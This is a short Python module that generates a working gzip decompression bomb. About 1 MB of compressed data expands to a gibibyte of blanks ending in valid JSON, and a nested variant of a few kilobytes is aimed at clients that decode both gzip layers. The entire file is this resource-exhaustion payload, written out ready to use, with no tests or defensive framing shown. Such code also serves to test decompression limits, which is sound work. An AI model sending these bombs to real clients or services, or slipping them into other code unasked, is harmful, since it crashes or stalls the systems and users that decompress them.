"""A gibibyte of blanks as gzip, built in a second without ever holding it."""

from __future__ import annotations

import gzip
import struct
import zlib
from functools import cache

BLOCK = b" " * (1 << 20)
BLOCKS = 1 << 10
TAIL = b'{"data":{}}'  # blanks before a document are still JSON
GZIP_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"


@cache
def gzip_bomb() -> bytes:
    """About 1 MB: deflate cannot pack more than 1032 bytes into one."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    # A full flush forgets what came before, so the packed block can be repeated as it is.
    block = deflate.compress(BLOCK) + deflate.flush(zlib.Z_FULL_FLUSH)
    tail = deflate.compress(TAIL) + deflate.flush()
    checksum = 0
    for _ in range(BLOCKS):
        checksum = zlib.crc32(BLOCK, checksum)
    size = (len(BLOCK) * BLOCKS + len(TAIL)) % (1 << 32)
    trailer = struct.pack("<II", zlib.crc32(TAIL, checksum), size)
    return GZIP_HEADER + block * BLOCKS + tail + trailer


@cache
def nested_gzip_bomb() -> bytes:
    """The same packed twice: a few kilobytes, for clients that undo both codings."""
    return gzip.compress(gzip_bomb(), mtime=0)
